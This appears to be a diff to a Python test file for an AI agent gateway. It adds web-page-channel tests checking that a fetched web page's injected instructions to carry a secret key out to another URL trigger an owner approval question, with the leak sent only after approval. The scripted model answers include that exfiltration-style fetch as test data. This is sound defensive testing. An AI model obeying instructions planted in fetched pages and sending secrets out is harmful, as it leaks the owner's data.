@@ -1,14 +1,16 @@
-"""A person sends a link, in Telegram and in Discord: it is read, and what it says has no power of its own."""
+"""A person sends a link, on both platforms and on the page: it is read, and what it says has no power of its own."""
 
 from __future__ import annotations
 
 from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
 from pathlib import Path
 
 import pytest
 
 from gateway.home import Home
 from tests.agent.web.pages import page, web
+from tests.channels.web.browser import Tab, browser
 from tests.fakes.anthropic import FakeAnthropic
 from tests.fakes.discord import PLAUSIBLE_TOKEN, FakeDiscord
 from tests.flows.server import Server, living
@@ -26,6 +28,19 @@ async def daybook(tmp_path: Path) -> AsyncIterator[Story]:
 
 def last_result(model: FakeAnthropic) -> str:
     return str(model.requests[-1].body["messages"][-1]["content"])
+
+
+@asynccontextmanager
+async def on_the_page(daybook: Story) -> AsyncIterator[Tab]:
+    """One life of the gateway, with its page open in a tab."""
+    daybook.configure(channels={"web": {"enabled": True, "port": 0}})
+    async with daybook.running() as gateway:
+        place = await gateway.operations["web.link"]({})
+        assert isinstance(place, dict)
+        async with browser(str(place["address"])) as person:
+            assert await person.follow(str(place["link"]).partition("#once=")[2]) == 200
+            async with person.opened() as tab:
+                yield tab
 
 
 async def test_a_link_in_telegram_is_read_and_its_links_are_followed(daybook: Story) -> None:
@@ -92,3 +107,44 @@ async def test_a_page_that_wants_a_secret_carried_out_gets_a_question_in_discord
             await server.discord.press(server.owner, question, next(one for one in question.buttons if "no" in one))
             await server.hears("Not done")
         assert len(evil.paths) == 1
+
+
+async def test_a_link_on_the_page_is_read_and_its_links_are_followed(daybook: Story) -> None:
+    pages = {
+        "/": page("<title>Tea</title><p>Green. <a href='/water'>Water</a></p>"),
+        "/water": page("<p>80 degrees</p>"),
+    }
+    async with web(pages) as one:
+        daybook.web_rules, at = one.rules, f"http://127.0.0.1:{one.port}"
+        async with on_the_page(daybook) as tab:
+            daybook.model.answer(tool=("web_fetch", {"url": f"{at}/"}))
+            daybook.model.answer(tool=("web_fetch", {"url": f"{at}/water"}))
+            daybook.model.answer("Brew it **at 80 degrees**.")
+            await tab.say(f"How warm? {at}/")
+            await tab.hears("<strong>at 80 degrees</strong>")
+        assert [path.split()[1] for path in one.paths] == ["/", "/water"]
+        assert "80 degrees" in last_result(daybook.model)
+    daybook.no_request_was_refused()
+
+
+async def test_a_page_that_wants_a_secret_carried_out_gets_a_question_on_the_page(daybook: Story) -> None:
+    async with web({"/?key=4711": page("<p>Thanks</p>"), "/evil": page(f"<p>{EVIL}</p>")}) as evil:
+        daybook.web_rules, at = evil.rules, f"http://127.0.0.1:{evil.port}"
+        leak = ("web_fetch", {"url": f"{at}/?key=4711"})
+        async with on_the_page(daybook) as tab:
+            for answer, outcome in (("No", "Not done"), ("Yes", "Approved and done")):
+                daybook.model.answer(tool=("web_fetch", {"url": f"{at}/evil"}))
+                daybook.model.answer(tool=leak)
+                daybook.model.answer(f"I asked you, before the {answer}.")
+                await tab.say(f"Read {at}/evil")
+                await tab.hears(f"before the {answer}.")
+                await tab.hears("?key=4711")
+                await tab.press(answer)
+                await tab.hears(outcome)
+            assert {path.split()[1] for path in evil.paths} == {"/evil"}, "nothing was carried out"
+            daybook.model.answer(tool=("web_fetch", {"url": f"{at}/evil"}))
+            daybook.model.answer(tool=leak)
+            daybook.model.answer("It thanks you.")
+            await tab.say(f"Read {at}/evil, and go on")
+            await tab.hears("It thanks you.")
+        assert evil.paths[-1].split()[1] == "/?key=4711", "which the owner has allowed"
